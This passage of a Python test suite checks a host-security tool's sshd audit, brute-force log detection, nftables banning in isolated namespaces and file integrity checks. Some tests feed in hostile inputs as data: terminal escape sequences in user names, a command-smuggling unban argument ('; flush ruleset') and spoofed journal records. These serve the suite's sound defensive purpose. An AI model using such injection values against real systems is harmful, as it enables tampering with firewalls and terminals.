        self.assertEqual(states.get("SSH-ROOT-LOGIN"), "open")
        self.assertEqual(self.audit("weak", "--fail-on", "critical").returncode, 1)
        self.assertEqual(self.audit("hardened", "--fail-on", "medium").returncode, 0)

    def test_bad_config_is_a_clear_error(self):
        root = os.path.join(self.tmp, "weak")
        spit(os.path.join(root, "etc/ssh/sshd_config.d/50-cloud-init.conf"),
             "Include /etc/ssh/sshd_config.d/*.conf\n")
        p = self.audit("weak", check=3)
        self.assertIn("Include nested more than 16 deep", p.stderr)
        spit(os.path.join(root, "etc/ssh/sshd_config.d/50-cloud-init.conf"),
             "Banner " + "\x1b[2J" + "x" * 70000 + "\n")
        p = self.audit("weak", check=3)
        self.assertIn("line longer than", p.stderr)
        self.assertNotIn("\x1b", p.stderr)
        # a hostile user name in /etc/passwd never reaches the terminal raw
        os.remove(os.path.join(root, "etc/ssh/sshd_config.d/50-cloud-init.conf"))
        with open(os.path.join(root, "etc/shadow"), "a") as f:
            f.write("ev\x1b[31mil::19800:0:99999:7:::\n")
        p = self.audit("weak", "--checks", check=0)
        self.assertIn("ev\\x1b[31mil: empty password field", p.stdout)
        self.assertNotIn("\x1b", p.stdout)


class Guard(Base):
    """mamori guard scan-log against the ground truth of ../shared/bench/authlog/gen_authlog.py."""

    def generate(self, lines, *args):
        log = os.path.join(self.tmp, "auth.log")
        truth = os.path.join(self.tmp, "truth.tsv")
        subprocess.run([sys.executable, os.path.join(SHARED, "bench/authlog/gen_authlog.py"),
                        "--lines", str(lines), "--out", log, "--truth", truth, *args],
                       check=True, capture_output=True)
        return log, truth

    def score(self, doc, truth):
        import collections
        import ipaddress
        blamed, nets = set(), []
        for a in doc["attackers"]:
            if "/" in a["address"]:
                nets.append(ipaddress.ip_network(a["address"]))
            else:
                blamed.add(a["address"])
            blamed.update(a["addresses"])
        hit, total, counts = collections.Counter(), collections.Counter(), {}
        for line in slurp(truth).splitlines():
            if line.startswith("#") or line.startswith("ip\t"):
                continue
            ip, _, label, cls, _, attempts = line.split("\t")[:6]
            counts[ip] = int(attempts)
            if label == "attacker" and attempts == "0":
                continue
            total[cls] += 1
            addr = ipaddress.ip_address(ip)
            if ip in blamed or any(addr in n for n in nets):
                hit[cls] += 1
        return {c: hit[c] / total[c] for c in total}, counts

    def check_efficacy(self, *gen_args):
        log, truth = self.generate(200000, "--ip-space", "public", *gen_args)
        p = mamori("guard", "scan-log", log, "--year", "2024", "--format", "json", check=0)
        doc = json.loads(p.stdout)
        if "export" not in gen_args:  # (an export record spans several lines)
            self.assertEqual(doc["lines"], 200000)
        recall, counts = self.score(doc, truth)
        for cls in ("fast_bf", "rootprobe", "injection"):
            self.assertEqual(recall[cls], 1.0, cls)
        for cls in ("slow_bf", "subnet_bf", "v6rot_bf"):
            self.assertGreaterEqual(recall[cls], 0.95, cls)
        self.assertGreaterEqual(recall["dist_bf"], 0.95)
        for cls in ("user", "mistype", "mfa", "office_nat", "ci", "injection_victim", "scanner"):
            self.assertEqual(recall.get(cls, 0.0), 0.0, f"benign {cls} blamed")
        # one failure per attempt: single-address entries carry exactly the true count
        singles = [a for a in doc["attackers"] if not a["addresses"]]
        self.assertGreater(len(singles), 50)
        for a in singles:
            self.assertEqual(a["failures"], counts[a["address"]], a["address"])
        return doc

    def test_efficacy_syslog(self):
        doc = self.check_efficacy()
        kinds = {a["kind"] for a in doc["attackers"]}
        self.assertTrue({"burst", "slow", "distributed"} <= kinds, kinds)

    def test_efficacy_openssh_98_rfc3339(self):
        self.check_efficacy("--format", "rfc3339", "--sshd-ident", "sshd-session")

    def test_efficacy_journal_export(self):
        self.check_efficacy("--format", "export")

    def test_journal_files_through_sd_journal(self):
        # real journal files, written by systemd-journal-remote from the export stream
        jr = os.path.join(os.environ["MAMORI_FIXTURES"], "..", "..", ".cache", "journal-remote")
        tool = os.path.join(jr, "lib/systemd/systemd-journal-remote")
        self.assertTrue(os.path.exists(tool), "run scripts/install-deps.sh --test")
        export, _ = self.generate(30000, "--format", "export", "--sshd-ident", "sshd-session")
        journal = os.path.join(self.tmp, "remote.journal")
        env = dict(os.environ, LD_LIBRARY_PATH=os.path.join(jr, "usr/lib/x86_64-linux-gnu"))
        subprocess.run([tool, "-o", journal, export], check=True, env=env, capture_output=True)
        from_journal = json.loads(mamori("guard", "scan-log", "--journal-file", journal,
                                         "--format", "json", check=0).stdout)
        from_export = json.loads(mamori("guard", "scan-log", export, "--format", "json",
                                        check=0).stdout)
        self.assertGreater(len(from_export["attackers"]), 5)
        self.assertEqual(from_journal["events"], from_export["events"])
        self.assertEqual(from_journal["attackers"], from_export["attackers"])
        p = mamori("guard", "scan-log", "--journal-file", os.path.join(self.tmp, "none.journal"))
        self.assertEqual(p.returncode, 3)
        self.assertIn("journal", p.stderr)

    def test_other_services_and_since(self):
        import time
        now = int(time.time())

        def rfc(t):
            return time.strftime("%Y-%m-%dT%H:%M:%S+00:00", time.gmtime(t))

        def clf(t):
            return time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(t))
        auth, web = [], []
        for i in range(6):
            t = now - 600 + i * 20
            auth.append(f"{rfc(t)} srv vsftpd[9]: pam_unix(vsftpd:auth): authentication failure; "
                        f"logname= uid=0 euid=0 tty=ftp ruser= rhost=198.51.100.51  user=ftp{i}")
            auth.append(f"{rfc(t)} srv xrdp-sesman[8]: [INFO ] AUTHFAIL: user=admin "
                        f"ip=::ffff:198.51.100.52 time={t}")
            auth.append(f"{rfc(t)} srv x11vnc[7]: rfbVncAuthProcessResponse: authentication failed "
                        f"from 198.51.100.53")
            auth.append(f"{rfc(now - 3 * 86400 + i)} srv sshd[{i}]: Failed password for root from "
                        f"198.51.100.55 port {4000 + i} ssh2")  # three days ago
            web.append(f'198.51.100.54 - - [{clf(t)}] "POST /xmlrpc.php HTTP/1.1" 200 370 "-" "-"')
        spit(os.path.join(self.tmp, "auth.log"), "\n".join(auth) + "\n")
        spit(os.path.join(self.tmp, "access.log"), "\n".join(web) + "\n")
        files = [os.path.join(self.tmp, "auth.log"), os.path.join(self.tmp, "access.log")]
        doc = json.loads(mamori("guard", "scan-log", *files, "--format", "json").stdout)
        got = {a["address"]: (a["kind"], a["services"]) for a in doc["attackers"]}
        self.assertEqual(got, {"198.51.100.51": ("spraying", ["pam"]),  # ftp0..ftp5
                               "198.51.100.52": ("burst", ["xrdp"]),
                               "198.51.100.53": ("burst", ["vnc"]),
                               "198.51.100.54": ("burst", ["wordpress"]),
                               "198.51.100.55": ("burst", ["ssh"])})
        recent = json.loads(mamori("guard", "scan-log", *files, "--since", "1d", "--format",
                                   "json").stdout)
        self.assertEqual({a["address"] for a in recent["attackers"]},
                         set(got) - {"198.51.100.55"})
        day = time.strftime("%Y-%m-%d", time.gmtime(now - 2 * 86400))
        self.assertEqual(len(json.loads(mamori("guard", "scan-log", *files, "--since", day,
                                               "--format", "json").stdout)["attackers"]), 4)
        p = mamori("guard", "scan-log", *files, "--since", "yesterday", check=2)
        self.assertIn("--since", p.stderr)

    def test_local_time_zone_and_config_allowlist(self):
        """Syslog stamps are local time: on a host in Tokyo, --since 2h keeps the last two hours
        (not nine hours off); allow entries of a config file are never reported."""
        import time
        now = int(time.time())
        env = {"TZ": "Asia/Tokyo"}
        os.environ["TZ"] = "Asia/Tokyo"
        time.tzset()
        try:
            def lines(ip, t):
                return "".join(time.strftime("%b %e %H:%M:%S", time.localtime(t + i)) +
                               f" srv sshd[{i}]: Failed password for root from {ip} port {i} ssh2\n"
                               for i in range(6))
            log = os.path.join(self.tmp, "auth.log")
            spit(log, lines("198.51.100.81", now - 3 * 3600) + lines("198.51.100.82", now - 3600) +
                 lines("198.51.100.83", now - 1800))
        finally:
            os.environ["TZ"] = "UTC"
            time.tzset()
        cfg = os.path.join(self.tmp, "guard.toml")
        spit(cfg, 'allow = ["198.51.100.83"]\n')
        doc = json.loads(mamori("guard", "scan-log", log, "--since", "2h", "--config", cfg,
                                "--format", "json", env=env, check=0).stdout)
        self.assertEqual([a["address"] for a in doc["attackers"]], ["198.51.100.82"])
        spit(cfg, 'allow = ["not an address"]\n')
        p = mamori("guard", "scan-log", log, "--config", cfg, env=env, check=3)
        self.assertIn("guard.toml:1", p.stderr)
        spit(cfg, 'alow = ["198.51.100.83"]\n')
        self.assertIn("unknown key", mamori("guard", "scan-log", log, "--config", cfg,
                                            check=3).stderr)

    def test_spoofed_journal_records_are_ignored(self):
        rec = ("__CURSOR=s={i}\n__REALTIME_TIMESTAMP={t}000000\nSYSLOG_IDENTIFIER=sshd\n{origin}"
               "MESSAGE=Failed password for root from {ip} port {i} ssh2\n\n")
        out = []
        for i in range(6):
            out.append(rec.format(i=i, t=1714953600 + i, ip="198.51.100.77",
                                  origin="_UID=65534\n_COMM=logger\n_SYSTEMD_UNIT=session-2.scope\n"))
            out.append(rec.format(i=i, t=1714953600 + i, ip="198.51.100.78",
                                  origin="_UID=0\n_COMM=sshd\n_SYSTEMD_UNIT=ssh.service\n"))
        export = os.path.join(self.tmp, "j.export")
        spit(export, "".join(out))
        doc = json.loads(mamori("guard", "scan-log", export, "--format", "json", check=0).stdout)
        self.assertEqual([a["address"] for a in doc["attackers"]], ["198.51.100.78"])
        self.assertEqual(doc["untrusted"], 6)

    def test_text_output_and_errors(self):
        log, _ = self.generate(30000)
        gz = log + ".1.gz"
        subprocess.run(["gzip", "-k", "-S", ".1.gz", log], check=True)
        p = mamori("guard", "scan-log", log, "--year", "2024", check=0)
        self.assertRegex(p.stdout.splitlines()[-1], r"^30000 lines, \d+ authentication events")
        both = mamori("guard", "scan-log", gz, log, "--year", "2024", check=0)
        self.assertIn("60000 lines", both.stdout)
        self.assertEqual(mamori("guard", "scan-log", "/nonexistent/auth.log").returncode, 3)
        self.assertEqual(mamori("guard", "scan-log", log, "--allow", "nonsense").returncode, 2)
        self.assertEqual(mamori("guard", "scan-log", log, "--format", "yaml").returncode, 2)
        # issue 12: the attackers are findings, which SARIF (and HTML) render
        sarif = json.loads(mamori("guard", "scan-log", log, "--year", "2024", "--format", "sarif",
                                  check=0).stdout)
        rules = {r["id"] for r in sarif["runs"][0]["tool"]["driver"]["rules"]}
        self.assertIn("guard/brute-force", rules)
        # hostile user names reach neither the terminal nor break the JSON
        with open(log, "w", encoding="latin-1") as f:
            for i in range(6):
                f.write(f"May  6 00:00:0{i} srv1 sshd[{i}]: Invalid user \x1b[31mevil\xff from "
                        f"198.18.0.1 port 4\n")
        p = mamori("guard", "scan-log", log, "--year", "2024", check=0)
        self.assertNotIn("\x1b", p.stdout)
        self.assertIn("\\x1b[31mevil", p.stdout)
        doc = json.loads(mamori("guard", "scan-log", log, "--format", "json", check=0).stdout)
        self.assertEqual(doc["attackers"][0]["address"], "198.18.0.1")


class GuardBans(Base):
    """Bans in nftables, only ever inside network namespaces this test creates."""

    def setUp(self):
        super().setUp()
        if os.geteuid() != 0 or not shutil.which("nft") or not shutil.which("ip"):
            self.skipTest("needs root, nft and ip (scripts/install-deps.sh --test)")
        tag = uuid.uuid4().hex[:6]
        self.ns, self.client = "mamori-srv-" + tag, "mamori-cli-" + tag
        self.procs = []
        for ns in (self.ns, self.client):
            subprocess.run(["ip", "netns", "add", ns], check=True)
            self.addCleanup(subprocess.run, ["ip", "netns", "del", ns], check=False)
            subprocess.run(["ip", "-n", ns, "link", "set", "lo", "up"], check=True)
        self.env = {"MAMORI_STATE_DIR": os.path.join(self.tmp, "state")}

    def tearDown(self):
        for p in self.procs:  # only what this test started
            p.kill()
            p.communicate()  # reaps it and closes its pipes
        super().tearDown()

    def notify_env(self):
        """A socket that receives what `guard run` tells systemd (READY=1, WATCHDOG=1…), and
        the environment that points the service at it."""
        import socket
        sock_path = os.path.join(self.tmp, "notify.sock")
        notify = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        notify.bind(sock_path)
        notify.settimeout(20)
        self.addCleanup(notify.close)
        e = dict(os.environ)
        e.update(self.env)
        e["NOTIFY_SOCKET"] = sock_path
        return notify, e

    def in_ns(self, *args, check=None, ns=None):
        e = dict(os.environ)
        e.update(self.env)
        p = subprocess.run(["ip", "netns", "exec", ns or self.ns, *args], capture_output=True,
                           text=True, env=e, timeout=120)
        if check is not None and p.returncode != check:
            raise AssertionError(f"{args} exited {p.returncode}\n{p.stdout}\n{p.stderr}")
        return p

    def guard(self, *args, check=0):
        return self.in_ns(BIN, "--store", self.db, "--host", "srv", *args, check=check)

    def elements(self):
        out = self.in_ns("nft", "-j", "list", "set", "inet", "mamori_guard", "ban4").stdout
        if not out:
            return {}
        elems = {}
        for item in json.loads(out)["nftables"]:
            for e in item.get("set", {}).get("elem", []):
                e = e["elem"]
                v = e["val"]
                key = v if isinstance(v, str) else f"{v['prefix']['addr']}/{v['prefix']['len']}"
                elems[key] = e.get("expires", -1)
        return elems

    def wait_banned(self, *ips):
        """Until every address is an element of the ban set (True), or 20 s (False)."""
        import time
        for _ in range(200):
            if set(ips) <= set(self.elements()):
                return True
            time.sleep(0.1)
        return False

    def stop_service(self, proc):
        """SIGTERM to a `guard run` this test started; its output once it has stopped cleanly."""
        proc.send_signal(signal.SIGTERM)
        out, err = proc.communicate(timeout=20)
        self.assertEqual(proc.returncode, 0, err)
        return out, err

    def attack_log(self, ip, n=6, second=0):
        log = os.path.join(self.tmp, f"auth-{ip}-{second}.log")
        spit(log, "".join(f"May  6 00:0{i}:{second:02d} srv sshd[{100 + i}]: Failed password for "
                          f"root from {ip} port {4000 + i} ssh2\n" for i in range(n)))
        return log

    def test_ban_status_unban_restore_escalate(self):
        log = self.attack_log("198.18.0.1")
        doc = json.loads(self.guard("guard", "scan-log", log, "--year", "2024", "--ban",
                                    "--ban-time", "10m", "--format", "json").stdout)
        self.assertIn("banned_until", doc["attackers"][0])
        self.assertIn("198.18.0.1", self.elements())
        self.assertGreater(self.elements()["198.18.0.1"], 500)
        st = json.loads(self.guard("guard", "status", "--format", "json").stdout)
        self.assertEqual([(b["address"], b["offences"], b["in_firewall"]) for b in st["bans"]],
                         [("198.18.0.1", 1, True)])
        # a reboot (or someone flushing the ruleset): the store still knows, restore puts it back
        self.in_ns("nft", "flush", "ruleset", check=0)
        self.assertIn("NOT in the firewall", self.guard("guard", "status").stdout)
        self.guard("guard", "restore")
        self.assertIn("198.18.0.1", self.elements())
        # unban: gone from both; the same log again is no new offence (cron may run scan-log
        # over yesterday's log twice)…
        self.guard("guard", "unban", "198.18.0.1")
        self.assertNotIn("198.18.0.1", self.elements())
        self.assertEqual(json.loads(self.guard("guard", "status", "--format", "json").stdout)["bans"], [])
        self.guard("guard", "scan-log", log, "--year", "2024", "--ban", "--ban-time", "10m")
        self.assertEqual(json.loads(self.guard("guard", "status", "--format", "json").stdout)["bans"], [])
        # …new failures after that ban are: a repeat offence, twice as long
        import time
        fresh = os.path.join(self.tmp, "fresh.log")
        spit(fresh, "".join(time.strftime("%Y-%m-%dT%H:%M:%S+00:00", time.gmtime(time.time() + 2 + i)) +
                            f" srv sshd[{i}]: Failed password for root from 198.18.0.1 port {i} ssh2\n"
                            for i in range(6)))
        self.guard("guard", "scan-log", fresh, "--ban", "--ban-time", "10m")
        st = json.loads(self.guard("guard", "status", "--format", "json").stdout)
        self.assertEqual(st["bans"][0]["offences"], 2)
        self.assertGreater(st["bans"][0]["seconds_left"], 1100)
        self.assertGreater(self.elements()["198.18.0.1"], 1100)
        # bad input never reaches nft
        self.assertEqual(self.guard("guard", "unban", "1.2.3.4; flush ruleset", check=2).returncode, 2)
        self.assertEqual(self.guard("guard", "scan-log", log, "--ban", "--ban-time", "soon",
                                    check=2).returncode, 2)

    def test_run_follows_rotation_bans_and_stops_cleanly(self):
        import time
        log = os.path.join(self.tmp, "auth.log")
        spit(log, "May  6 00:00:00 srv sshd[1]: Server listening on :: port 22.\n")
        notify, e = self.notify_env()
        e["WATCHDOG_USEC"] = "200000"
        proc = subprocess.Popen(["ip", "netns", "exec", self.ns, BIN, "--store", self.db, "--host",
                                 "srv", "--format", "json", "guard", "run", "--log", log,
                                 "--poll-ms", "50", "--ban-time", "10m", "--allow", "198.18.9.0/24"],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=e)
        self.procs.append(proc)
        self.assertTrue(notify.recv(4096).decode().startswith("READY=1"))

        def append(path, ip, n=6):
            with open(path, "a") as f:
                for i in range(n):
                    f.write(f"May  6 01:0{i}:00 srv sshd[{200 + i}]: Failed password for root from "
                            f"{ip} port {4000 + i} ssh2\n")

        wait_banned = self.wait_banned
        append(log, "198.18.0.21")
        self.assertTrue(wait_banned("198.18.0.21"))
        # logrotate: renamed, a new file; the end of the old one and the new one are both read
        os.rename(log, log + ".1")
        append(log + ".1", "198.18.0.22")
        append(log, "198.18.0.23")
        self.assertTrue(wait_banned("198.18.0.22"))
        self.assertTrue(wait_banned("198.18.0.23"))
        append(log, "198.18.9.7")  # allowlisted: never banned
        append(log, "198.18.0.24")
        self.assertTrue(wait_banned("198.18.0.24"))
        self.assertNotIn("198.18.9.7", self.elements())
        got = set()
        while True:  # the watchdog pings keep coming while it runs
            msg = notify.recv(4096).decode()
            got.add(msg.split("=")[0])
            if "WATCHDOG" in got:
                break
        proc.send_signal(signal.SIGTERM)
        out, err = proc.communicate(timeout=20)
        self.assertEqual(proc.returncode, 0, err)
        banned = [json.loads(line)["banned"] for line in out.splitlines()]
        self.assertEqual(banned, ["198.18.0.21", "198.18.0.22", "198.18.0.23", "198.18.0.24"])
        st = json.loads(self.guard("guard", "status", "--format", "json").stdout)
        self.assertEqual(len(st["bans"]), 4)
        # a restart restores, and the same old lines do not ban anyone twice
        self.in_ns("nft", "flush", "ruleset", check=0)
        p2 = subprocess.Popen(["ip", "netns", "exec", self.ns, BIN, "--store", self.db, "--host", "srv",
                               "--format", "json", "guard", "run", "--log", log, "--from-start",
                               "--poll-ms", "50", "--allow", "198.18.9.0/24"],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              text=True, env=e)
        self.procs.append(p2)
        while not notify.recv(4096).decode().startswith("READY=1"):
            pass  # (what the first run sent last)
        self.assertTrue(wait_banned("198.18.0.24"))
        time.sleep(0.5)
        p2.send_signal(signal.SIGTERM)
        out2, _ = p2.communicate(timeout=20)
        self.assertEqual(out2.strip(), "")  # all still running from the first run
        self.assertEqual(self.guard("guard", "run", "--log", log, "--allow", "nonsense",
                                    check=2).returncode, 2)

    def test_run_since_catches_up_from_the_rotations(self):
        import gzip
        import time
        now = int(time.time())

        def lines(ip, t0):
            return "".join(
                time.strftime("%Y-%m-%dT%H:%M:%S+00:00", time.gmtime(t0 + i * 10)) +
                f" srv sshd[{300 + i}]: Failed password for root from {ip} port {4000 + i} ssh2\n"
                for i in range(6))
        log = os.path.join(self.tmp, "auth.log")
        spit(log, lines("198.18.0.46", now - 5 * 3600) + lines("198.18.0.41", now - 120))
        spit(log + ".1", lines("198.18.0.42", now - 900))
        for name, body, mtime in ((".2.gz", lines("198.18.0.45", now - 7200) +
                                   lines("198.18.0.43", now - 2000), now - 1800),
                                  (".3.gz", lines("198.18.0.44", now - 3 * 86400), now - 3 * 86400)):
            with gzip.open(log + name, "wt") as f:
                f.write(body)
            os.utime(log + name, (mtime, mtime))
        os.utime(log + ".1", (now - 600, now - 600))
        e = dict(os.environ)
        e.update(self.env)
        proc = subprocess.Popen(["ip", "netns", "exec", self.ns, BIN, "--store", self.db, "--host",
                                 "srv", "--format", "json", "guard", "run", "--log", log,
                                 "--since", "1h", "--poll-ms", "50"],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=e)
        self.procs.append(proc)
        want = {"198.18.0.41", "198.18.0.42", "198.18.0.43"}
        self.assertTrue(self.wait_banned(*want))
        time.sleep(0.3)  # nothing more comes
        out, err = self.stop_service(proc)
        # .3.gz was last written three days ago (not read); older lines of the others dropped
        self.assertEqual({json.loads(x)["banned"] for x in out.splitlines()}, want)
        self.assertIn("auth.log.2.gz", err)
        self.assertNotIn("auth.log.3.gz", err)

    def test_run_follows_a_journal_file(self):
        import time
        jr = os.path.join(os.environ["MAMORI_FIXTURES"], "..", "..", ".cache", "journal-remote")
        tool = os.path.join(jr, "lib/systemd/systemd-journal-remote")
        self.assertTrue(os.path.exists(tool), "run scripts/install-deps.sh --test")
        env = dict(os.environ, LD_LIBRARY_PATH=os.path.join(jr, "usr/lib/x86_64-linux-gnu"))
        journal = os.path.join(self.tmp, "j.journal")

        def write(ip, t0, origin="_UID=0\n_COMM=sshd-session\n_SYSTEMD_UNIT=ssh.service\n"):
            # six failures as journal entries, appended by systemd-journal-remote; `origin` is
            # what journald records of the writer (a spoof: `logger -t sshd` by nobody)
            export = os.path.join(self.tmp, f"{ip}.export")
            spit(export, "".join(
                f"__CURSOR=s={ip};i={i}\n__REALTIME_TIMESTAMP={(t0 + i) * 1000000}\n"
                f"__MONOTONIC_TIMESTAMP={(t0 + i) * 1000000}\n"
                f"_BOOT_ID=0123456789abcdef0123456789abcdef\n_TRANSPORT=syslog\n"
                f"SYSLOG_IDENTIFIER=sshd-session\n_PID={100 + i}\n_HOSTNAME=srv\n{origin}"
                f"MESSAGE=Failed password for root from {ip} port {4000 + i} ssh2\n\n"
                for i in range(6)))
            subprocess.run([tool, "-o", journal, export], check=True, env=env, capture_output=True)
        now = int(time.time())
        write("198.18.0.31", now - 100)  # before the start: history, not banned
        notify, e = self.notify_env()
        proc = subprocess.Popen(["ip", "netns", "exec", self.ns, BIN, "--store", self.db, "--host",
                                 "srv", "--format", "json", "guard", "run", "--journal-file",
                                 journal, "--poll-ms", "50"],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=e)
        self.procs.append(proc)
        # READY comes once the journal is open at its end: what is written after it is new
        self.assertTrue(notify.recv(4096).decode().startswith("READY=1"))
        write("198.18.0.33", now - 60, "_UID=65534\n_COMM=logger\n_SYSTEMD_UNIT=session-3.scope\n")
        write("198.18.0.34", now - 55, "_UID=0\n_COMM=logger\n_SYSTEMD_UNIT=cron.service\n")
        write("198.18.0.32", now - 50)
        self.assertTrue(self.wait_banned("198.18.0.32"))
        out, err = self.stop_service(proc)
        self.assertEqual([json.loads(x)["banned"] for x in out.splitlines()], ["198.18.0.32"])
        self.assertIn("the journal", err)

    def veth(self, server_addr, client_addrs, tag):
        """A veth pair between the server namespace and the client namespace."""
        a, b = "mv" + tag + "0", "mv" + tag + "1"
        subprocess.run(["ip", "link", "add", a, "netns", self.client, "type", "veth", "peer",
                        "name", b, "netns", self.ns], check=True)
        for addr in client_addrs:
            subprocess.run(["ip", "-n", self.client, "addr", "add", addr, "dev", a], check=True)
        subprocess.run(["ip", "-n", self.ns, "addr", "add", server_addr, "dev", b], check=True)
        for ns, dev in ((self.client, a), (self.ns, b)):
            subprocess.run(["ip", "-n", ns, "link", "set", dev, "up"], check=True)

    def test_never_bans_loopback_the_host_or_a_logged_in_session(self):
        """127.0.0.1 (a reverse proxy), the host's own address and the peer of a logged-in SSH
        session are never banned; a connection still authenticating gives no such pass."""
        import time
        self.veth("10.214.0.1/24", ["10.214.0.2/24", "10.214.0.3/24"], "s")
        # a stand-in sshd (an interpreter named sshd, as the kernel sees its executable), one
        # process per connection as sshd forks them: the connection from .2 logs in (a shell
        # runs below its process), the one from .3 never gets that far
        fake = os.path.join(self.tmp, "sshd")
        shutil.copy(sys.executable, fake)
        server = subprocess.Popen(["ip", "netns", "exec", self.ns, fake, "-c",
                                   "import os,socket,subprocess,time\n"
                                   "s=socket.socket(); s.bind(('10.214.0.1',2222)); s.listen(5)\n"
                                   "while True:\n"
                                   " c,a=s.accept()\n"
                                   " if os.fork()==0:\n"
                                   "  s.close()\n"
                                   "  if a[0]=='10.214.0.2': subprocess.Popen(['sleep','60'])\n"
                                   "  time.sleep(60); os._exit(0)\n"
                                   " c.close()\n"],
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                  start_new_session=True)
        self.procs.append(server)

        def end_group():  # its per-connection children and their "shells": the group it leads
            try:
                os.killpg(server.pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        self.addCleanup(end_group)
        clients = []
        for src in ("10.214.0.2", "10.214.0.3"):
            c = subprocess.Popen(["ip", "netns", "exec", self.client, sys.executable, "-c",
                                  "import socket,time\n"
                                  "for _ in range(100):\n"
                                  " try:\n"
                                  f"  s=socket.create_connection(('10.214.0.1',2222),source_address=('{src}',0)); break\n"
                                  " except OSError: time.sleep(0.05)\n"
                                  "print('up',flush=True); time.sleep(300)"],
                                 stdout=subprocess.PIPE, text=True)
            self.procs.append(c)
            clients.append(c)
        for c in clients:
            self.assertEqual(c.stdout.readline().strip(), "up")
        time.sleep(0.3)  # the server has accepted and started its "shell"
        log = os.path.join(self.tmp, "auth.log")
        spit(log, "")
        notify, e = self.notify_env()
        proc = subprocess.Popen(["ip", "netns", "exec", self.ns, BIN, "--store", self.db, "--host",
                                 "srv", "--format", "json", "guard", "run", "--log", log,
                                 "--poll-ms", "50"],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=e)
        self.procs.append(proc)
        self.assertTrue(notify.recv(4096).decode().startswith("READY=1"))
        with open(log, "a") as f:
            for ip in ("127.0.0.1", "10.214.0.1", "10.214.0.2", "::ffff:10.214.0.3"):
                for i in range(6):
                    f.write(f"May  6 01:0{i}:00 srv sshd[{200 + i}]: Failed password for root from "
                            f"{ip} port {4000 + i} ssh2\n")
        self.assertTrue(self.wait_banned("10.214.0.3"))
        time.sleep(0.3)  # nothing more comes
        out, err = self.stop_service(proc)
        self.assertEqual([json.loads(x)["banned"] for x in out.splitlines()], ["10.214.0.3"], err)
        self.assertEqual(set(self.elements()), {"10.214.0.3"})
        self.assertIn("10.214.0.2 (SSH session)", err)
        self.assertIn("10.214.0.1 (this host", err)

    def test_stored_bans_are_checked_and_status_is_sanitised(self):
        """Rows of the store are input: 0.0.0.0/0 or an allowlisted address never become nft
        elements, and an ESC in a row never reaches the terminal."""
        log = self.attack_log("198.18.0.60")
        self.guard("guard", "scan-log", log, "--year", "2024", "--ban")
        con = sqlite3.connect(self.db)
        for addr, reason in (("0.0.0.0/0", "the world"), ("127.0.0.1", "loopback"),
                             ("198.18.5.0/24", "holds an allowed address"),
                             ("198.18.0.61", "evil \x1b]0;pwned\x07\x1b[2J")):
            con.execute("INSERT INTO guard_bans (host, address, kind, reason, offences, banned_at, "
                        "expires_at) VALUES ('srv', ?, 'burst', ?, 1, 1, 9999999999)",
                        (addr, reason))
        con.commit()
        con.close()
        self.in_ns("nft", "flush", "ruleset", check=0)
        p = self.guard("guard", "restore", "--allow", "198.18.5.7")
        self.assertEqual(set(self.elements()), {"198.18.0.60", "198.18.0.61"}, p.stderr)
        self.assertIn("0.0.0.0/0", p.stderr)
        self.assertIn("wider than", p.stderr)
        st = self.guard("guard", "status")
        self.assertNotIn("\x1b", st.stdout)
        self.assertIn("evil \\x1b]0;pwned", st.stdout)
        # guard run restores the same way
        self.in_ns("nft", "flush", "ruleset", check=0)
        notify, e = self.notify_env()
        proc = subprocess.Popen(["ip", "netns", "exec", self.ns, BIN, "--store", self.db, "--host",
                                 "srv", "guard", "run", "--log", log, "--allow", "198.18.5.7",
                                 "--poll-ms", "50"],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=e)
        self.procs.append(proc)
        self.assertTrue(notify.recv(4096).decode().startswith("READY=1"))
        self.assertEqual(set(self.elements()), {"198.18.0.60", "198.18.0.61"})
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=20)
        self.assertIn("stored ban not restored: 0.0.0.0/0", err)
        self.assertNotIn("\x1b", err)

    def test_a_banned_client_cannot_connect(self):
        # a veth pair: client 10.213.0.1 → server 10.213.0.2:8022
        subprocess.run(["ip", "link", "add", "mg0", "netns", self.client, "type", "veth", "peer",
                        "name", "mg1", "netns", self.ns], check=True)
        for ns, dev, addr in ((self.client, "mg0", "10.213.0.1/24"), (self.ns, "mg1", "10.213.0.2/24")):
            subprocess.run(["ip", "-n", ns, "addr", "add", addr, "dev", dev], check=True)
            subprocess.run(["ip", "-n", ns, "link", "set", dev, "up"], check=True)
        server = subprocess.Popen(["ip", "netns", "exec", self.ns, sys.executable, "-c",
                                   "import socket\ns=socket.socket()\ns.bind(('10.213.0.2',8022))\n"
                                   "s.listen(50)\nwhile True:\n c,_=s.accept(); c.close()"])
        self.procs.append(server)
        probe = ("import socket,sys\ns=socket.socket(); s.settimeout(2)\n"
                 "try:\n s.connect(('10.213.0.2',8022)); print('open')\n"
                 "except OSError as e:\n print('blocked', e)")

        def connect():
            for _ in range(20):
                out = self.in_ns(sys.executable, "-c", probe, ns=self.client).stdout
                if "Connection refused" not in out:  # the server may still be starting
                    return out
            return out
        self.assertIn("open", connect())
        self.guard("guard", "scan-log", self.attack_log("10.213.0.1"), "--year", "2024", "--ban")
        self.assertIn("blocked", connect())
        self.guard("guard", "unban", "10.213.0.1")
        self.assertIn("open", connect())


class Fim(Base):
    def setUp(self):
        super().setUp()
        self.root = os.path.join(self.tmp, "fimroot")
        for rel, body in (("var/www/shop/index.php", "<?php echo 1;\n"), ("usr/bin/tool", "tool\n"),
                          ("etc/app.conf", "a=1\n")):
            os.makedirs(os.path.dirname(os.path.join(self.root, rel)), exist_ok=True)
            spit(os.path.join(self.root, rel), body)

    def fim(self, *args, check=None):
        return mamori("--root", self.root, "--store", self.db, "--host", "web01", "-q", *args,
                      env={"MAMORI_STATE_DIR": os.path.join(self.tmp, "state")}, check=check)

    def test_init_check_update_lifecycle(self):
        p = self.fim("fim", "init", "/var/www", "/usr/bin", "/etc", check=0)
        self.assertIn("entries (sha256), signed", p.stdout)
        p = self.fim("--format", "json", "fim", "check", check=0)
        self.assertEqual(json.loads(p.stdout)["findings"], [])
